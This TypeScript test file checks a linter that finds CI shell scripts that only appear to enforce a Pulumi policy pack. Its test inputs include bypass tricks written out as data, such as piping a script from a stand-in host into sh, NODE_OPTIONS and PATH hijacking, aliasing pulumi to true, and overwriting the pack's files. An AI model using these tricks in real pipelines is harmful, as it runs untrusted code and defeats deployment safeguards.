/**
 * Scripts that look as if they ran the pack, and do not, or not whole: each is found. Proves nothing about commands that a program would run.
 */
import { describe, expect, it } from "vitest";
import { CHECK, CONFIG, github, PACK, PREVIEW, SCRIPT, UP } from "./hostile";
import { problemsIn } from "./mutants";

const NO_PREVIEW = /no preview under the pack/;
const NO_CHECK = /no check-config before/;
const SWALLOWED = /refusal is swallowed/;

/** Scripts of the repository that tests may call. */
const FILES: Readonly<Record<string, string>> = {
    "ci/check.sh": `${CONFIG}\n${CHECK}\n`,
    "ci/strict.sh": `set -eu\n${SCRIPT.join("\n")}\n`,
    "ci/none.sh": `set -e\nexit 0\n${CONFIG}\n${CHECK}\n${PREVIEW}\n`,
    "ci/late.sh": `${SCRIPT.join("\n")}\nset -e\n`,
    "ci/around.sh": 'set -e\n. "$(dirname "$0")/up.sh"\n',
    "ci/up.sh": "pulumi up --yes\n",
    "ci/loop.sh": `set -e\nsh ci/loop.sh\n${SCRIPT.join("\n")}\n`,
};
const problems = (...lines: readonly string[]): string[] =>
    problemsIn(github(lines), (file) => {
        const text = FILES[file];
        if (text === undefined) throw new Error(`no ${file}`);
        return text;
    });

describe("what is clean", () => {
    it.each<[string, readonly string[]]>([
        ["four commands", SCRIPT],
        ["a script that they stand in", ["sh ci/strict.sh"]],
        ["a script that calls itself", ["sh ci/loop.sh"]],
        ["one list", [SCRIPT.join(" && ")]],
        ["a status that is looked at", [CONFIG, CHECK, PREVIEW, `${UP} || s=$?`, 'echo "$s"']],
        ["an exit for each", [CONFIG, `${CHECK} || exit 3`, `${PREVIEW} || { echo no >&2; exit 1; }`, UP]],
        ["a group", ["{", ...SCRIPT, "} 2>&1"]],
        ["environment before the command", [CONFIG, CHECK, PREVIEW, `AWS_REGION=x timeout 60m ${UP}`]],
        ["words that only speak of it", ["echo pulumi up --yes", ...SCRIPT]],
        ["quotes and line ends of others", [CONFIG, CHECK, PREVIEW, UP.replace(" --refresh", ' \\\n  "--refresh"')]],
        [
            "settings by a variable, and the configuration where README has it",
            [
                'settings="policies/settings.$STACK.json"',
                'npm run policy -- config --settings "$settings" > policies/bin/pack.json',
                "node dist/policy.js check-config policies/bin/pack.json",
                PREVIEW.replace("pack.json", "policies/bin/pack.json"),
            ],
        ],
        ["a comment that seems to go on", [...SCRIPT, "# x \\", "echo y"]],
        ["programs of the system", ["/usr/bin/env true", "npm ci", "npm -s run build", ...SCRIPT]],
        ["what reads only", [...SCRIPT, "npx pulumi stack export > s.json"]],
    ])("%s", (_name, lines) => expect(problems(...lines)).toEqual([]));
});

describe("what does not run, or may not", () => {
    it.each<[string, readonly string[], RegExp]>([
        ["a preview that is said", [CONFIG, CHECK, `echo ${PREVIEW}`, UP], NO_PREVIEW],
        ["a preview as an operand", [CONFIG, CHECK, `test ${PREVIEW}`, UP], NO_PREVIEW],
        ["a preview behind a failure", [CONFIG, CHECK, `false && ${PREVIEW}`, UP], NO_PREVIEW],
        ["a preview behind success", [CONFIG, CHECK, `true || ${PREVIEW}`, UP], NO_PREVIEW],
        ["a preview in a branch", [CONFIG, CHECK, `if false; then ${PREVIEW}; fi`, UP], NO_PREVIEW],
        ["a preview in a loop", [CONFIG, CHECK, `for x in; do ${PREVIEW}; done`, UP], NO_PREVIEW],
        ["a preview in a function", [CONFIG, CHECK, `f() { ${PREVIEW}; }`, UP], NO_PREVIEW],
        ["a preview in a case", [CONFIG, CHECK, `case x in y) ${PREVIEW};; esac`, UP], NO_PREVIEW],
        ["a preview in a here-document", [CONFIG, CHECK, `cat <<X`, PREVIEW, "X", UP], NO_PREVIEW],
        ["a preview in a text", [CONFIG, CHECK, `: '\n${PREVIEW}\n'`, UP], NO_PREVIEW],
        ["a preview in a substitution", [CONFIG, CHECK, `x=$(${PREVIEW})`, UP], NO_PREVIEW],
        ["a preview after exit, of a script", ["sh ci/none.sh", UP], NO_PREVIEW],
        ["a check that is said", [CONFIG, `echo ${CHECK}`, PREVIEW, UP], NO_CHECK],
        ["a check of nothing", [CONFIG, "grep check-config pack.json", PREVIEW, UP], NO_CHECK],
        ["a check in a branch", [CONFIG, `if [ -n "$X" ]; then ${CHECK}; fi`, PREVIEW, UP], NO_CHECK],
        ["a check of another program", [CONFIG, "npm run other -- check-config pack.json", PREVIEW, UP], NO_CHECK],
        ["a check behind &&", [CONFIG, `[ -n "$X" ] && ${CHECK}`, PREVIEW, UP], NO_CHECK],
    ])("%s", (_name, lines, found) => expect(problems(...lines).join("\n")).toMatch(found));
});

describe("what is swallowed", () => {
    it.each<[string, readonly string[], RegExp]>([
        ["a check that others follow by &&", [CONFIG, `${CHECK} && true`, PREVIEW, UP], /check-config is swallowed/],
        ["a group that is forgiven", [CONFIG, CHECK, PREVIEW, `{ ${UP}; } || true`], SWALLOWED],
        ["a subshell that is forgiven", [CONFIG, CHECK, PREVIEW, `(${UP}) || true`], SWALLOWED],
        ["another way to say true", [CONFIG, CHECK, PREVIEW, `${UP} || /bin/true`], SWALLOWED],
        ["a status that nobody looks at", [CONFIG, CHECK, PREVIEW, `${UP} || status=$?`], SWALLOWED],
        ["a negation", [CONFIG, CHECK, PREVIEW, `! ${UP}`], SWALLOWED],
        ["a condition", [CONFIG, CHECK, PREVIEW, `if ${UP}; then :; fi`], SWALLOWED],
        ["an or that warns", [CONFIG, CHECK, PREVIEW, `${UP} || printf 'no\\n'`], SWALLOWED],
        ["an exit with success", [CONFIG, CHECK, PREVIEW, `${UP} || exit 0`], SWALLOWED],
        ["a script that is forgiven", ["sh ci/strict.sh || true"], SWALLOWED],
        ["a shell that goes on", ["set +o errexit", ...SCRIPT], /set \+e/],
        ["a shell that goes on, in a group", [`( set +e; ${SCRIPT.join("; ")} )`], /set \+e/],
        ["a trap", ["trap 'exit 0' EXIT", ...SCRIPT], /a trap that exits/],
        ["a check's script without set -e", ["sh ci/check.sh", PREVIEW, UP], /ci\/check\.sh goes on/],
        ["a script with set -e at its end", ["sh ci/late.sh"], /ci\/late\.sh goes on/],
    ])("%s", (_name, lines, found) => expect(problems(...lines).join("\n")).toMatch(found));
});

describe("what runs another thing than it says", () => {
    const bare = `pulumi up --yes`;
    it.each<[string, readonly string[], RegExp]>([
        ["an update in a substitution", [...SCRIPT, `x=$(${bare})`], /an update without --policy-pack/],
        ["an update in backticks", [...SCRIPT, `x=\`${bare}\``], /an update without --policy-pack/],
        ["an update by version", [...SCRIPT, "npx -y pulumi@latest up --yes"], /an update without --policy-pack/],
        ["an update by path", [...SCRIPT, "./node_modules/.bin/pulumi up --yes"], /an update without --policy-pack/],
        ["an update of parts of a name", [...SCRIPT, `pu"lu"'mi' up --yes`], /an update without --policy-pack/],
        ["an update behind a global option", [...SCRIPT, "pulumi --color never up --yes"], /an update without/],
        ["an update by its old name", [...SCRIPT, "pulumi update --yes"], /an update without --policy-pack/],
        ["a destroy by its short name", [...SCRIPT, "pulumi down --yes"], /pulumi destroy, which no pack judges/],
        ["an edit of the state", [...SCRIPT, "pulumi state unprotect --all"], /pulumi state, which no pack judges/],
        ["an import of a state", [...SCRIPT, "pulumi stack import < x"], /pulumi stack import, which no pack/],
        ["a script beside a script", [...SCRIPT, "sh ci/around.sh"], /an update without --policy-pack/],
        ["a script by a variable", [...SCRIPT, 'sh "$X/up.sh"'], /name only the run knows/],
        ["a variable as a command", [...SCRIPT, "$X up --yes"], /a variable as a command/],
        ["eval", [...SCRIPT, `eval "${bare}"`], /eval: what it runs is not read/],
        ["a shell's argument", [...SCRIPT, `bash -c "${bare}"`], /bash -c: what it runs is not read/],
        ["make", [...SCRIPT, "make deploy"], /make: what it runs is not read/],
        ["another script of npm", [...SCRIPT, "npm run deploy"], /npm run: what it runs is not read/],
        ["npm exec", [...SCRIPT, "npm exec -- pulumi up"], /an update without/],
        ["a here-document for a shell", [...SCRIPT, "sh <<X", bare, "X"], /a here-document that speaks of pulumi/],
        ["an alias", [`alias pulumi=true`, ...SCRIPT], /alias, which changes what a name runs/],
        ["a comment that seems to go on", [...SCRIPT, "# x \\", bare], /an update without --policy-pack/],
        ["a function by the name of what runs it", ["npx() { :; }", ...SCRIPT], /a function that is called npx/],
        ["a function of bash by that name", ["function npm { :; }", ...SCRIPT], /a function that is called npm/],
        ["a script from the network", [...SCRIPT, "curl -s https://x.example | sh"], /sh of its standard input/],
        ["a script from a file, by a pipe", [...SCRIPT, "bash -s < x"], /bash of its standard input/],
        ["a subcommand by a variable", [...SCRIPT, 'pulumi "$X" --yes'], /an update without --policy-pack/],
        ["a subcommand in braces", [...SCRIPT, "pulumi {up,--yes}"], /an update without --policy-pack/],
        ["a command in braces", [...SCRIPT, "{pulumi,up,--yes}"], /a variable as a command/],
        ["an import behind options", [...SCRIPT, "pulumi stack --stack x import < y"], /pulumi stack import, which/],
        ["a stack's subcommand by a variable", [...SCRIPT, 'pulumi stack "$X"'], /pulumi stack import, which/],
        ["a command for another machine", [...SCRIPT, "rsh host 'pulumi up --yes'"], /a text with pulumi in it/],
        ["find", [...SCRIPT, "find . -exec pulumi up --yes ;"], /an update without --policy-pack/],
        ["a program of the repository", [...SCRIPT, "./ci/deploy"], /a file that is no \.sh/],
        ["a program of some other language", [...SCRIPT, "python3 deploy.py"], /python3: what it runs is not read/],
        ["packages that are not locked", ["npm install left-pad", ...SCRIPT], /npm install: what it runs/],
        ["another meaning of npm run policy", ["npm pkg set scripts.policy=true", ...SCRIPT], /npm pkg: what it runs/],
        ["a package of somebody", ["npx -y helper", ...SCRIPT], /npx: what it runs is not read/],
        ["another pack in the place of ours", ["cp -r x policies/bin", ...SCRIPT], /the pack's own files/],
        ["another command in the place of ours", ["echo > dist/policy.js", ...SCRIPT], /the pack's own files/],
        ["an unreadable script", [...SCRIPT, "echo 'no end"], /cannot be read as a shell script/],
    ])("%s", (_name, lines, found) => expect(problems(...lines).join("\n")).toMatch(found));
});

describe("options and places", () => {
    it.each<[string, readonly string[], RegExp]>([
        ["a second pack", [CONFIG, CHECK, PREVIEW, `${UP} --policy-pack mine`], /an update without/],
        ["a second configuration", [CONFIG, CHECK, PREVIEW, `${UP} --policy-pack-config x.json`], /an update without/],
        ["short options in one", [CONFIG, CHECK, PREVIEW, UP.replace("--yes", "-yf")], /--skip-preview/],
        ["a part of the stack", [CONFIG, CHECK, PREVIEW, `${UP} --target urn:x`], /a part of the stack/],
        ["a part of the stack, short", [CONFIG, CHECK, PREVIEW, `${UP} -t urn:x`], /a part of the stack/],
        ["all but a part", [CONFIG, CHECK, `${PREVIEW} --exclude=urn:x`, UP], /a part of the stack/],
        ["going on", [CONFIG, CHECK, PREVIEW, `${UP} --continue-on-error`], /--continue-on-error/],
        ["somewhere else", [CONFIG, CHECK, PREVIEW, `${UP} --remote`], /--remote/],
        ["options by a variable", [CONFIG, CHECK, PREVIEW, `${UP} $MORE`], /a variable outside quotes/],
        ["options by a command", [CONFIG, CHECK, PREVIEW, `${UP} $(cat x)`], /a variable outside quotes/],
        ["another folder", ["cd evil", ...SCRIPT], /cd, after which policies may be another folder/],
        ["another folder, of Pulumi", [CONFIG, CHECK, `${PREVIEW} --cwd=evil`, UP], /another folder/],
        ["another folder, short", [CONFIG, CHECK, `${PREVIEW} -C evil`, UP], /another folder/],
        ["a configuration written again", [CONFIG, CHECK, CONFIG, PREVIEW, UP], /written or moved after/],
        ["a configuration moved in", [CONFIG, CHECK, "cp x pack.json", PREVIEW, UP], /written or moved after/],
        ["a configuration edited", [CONFIG, CHECK, PREVIEW, "sed -i s/a/b/ pack.json", UP], /written or moved after/],
        ["a variable of node's", [`export NODE_OPTIONS=--require=./x.js`, ...SCRIPT], /NODE_OPTIONS, which changes/],
        ["another path", ['export PATH="$PWD/evil:$PATH"', ...SCRIPT], /variable PATH, which changes what code/],
        ["variables for later steps", ['cat x >> "$GITHUB_ENV"', ...SCRIPT], /GITHUB_ENV or GITHUB_PATH/],
        [
            "a check with options, of another file",
            [CONFIG, `${CHECK.replace("pack", "other")} --json`, PREVIEW, UP],
            /another file/,
        ],
        [
            "Windows' line ends",
            [CONFIG, CHECK, PREVIEW, "pulumi up --skip-preview\r"],
            /an update without|--skip-preview/,
        ],
        [
            "settings that the job makes",
            [CONFIG.replace("policies/settings.dev.json", "/tmp/s.json"), CHECK, PREVIEW, UP],
            /a configuration of other settings/,
        ],
        [
            "settings by a variable, of which one value is another",
            [
                "s=policies/settings.dev.json",
                "s=/tmp/x.json",
                CONFIG.replace("policies/settings.dev.json", '"$s"'),
                CHECK,
                PREVIEW,
                UP,
            ],
            /a configuration of other settings/,
        ],
        [
            "settings in the script",
            [CONFIG.replace("policies/settings.dev.json", "'{}'"), CHECK, PREVIEW, UP],
            /a configuration of other settings/,
        ],
        ["no pack at all", ["pulumi up --yes", PACK], /an update without/],
    ])("%s", (_name, lines, found) => expect(problems(...lines).join("\n")).toMatch(found));
});
